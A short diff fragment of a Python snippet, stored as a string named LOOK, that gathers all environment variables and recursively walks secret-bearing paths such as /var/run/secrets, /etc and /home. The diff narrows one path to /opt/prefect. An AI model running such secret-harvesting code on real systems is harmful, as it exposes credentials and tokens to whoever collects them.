@@ -35,7 +35,7 @@ LOOK = """
 import json, os, pathlib, ssl, urllib.error, urllib.request
 
 found = {"environment": dict(os.environ), "files": {}, "api_server": {}}
-places = ["/var/run/secrets", "/run/secrets", "/etc", "/mnt", "/home", "/opt", "/tmp"]
+places = ["/var/run/secrets", "/run/secrets", "/etc", "/mnt", "/home", "/opt/prefect", "/tmp"]
 for place in places:
     for path in pathlib.Path(place).rglob("*"):
         try:
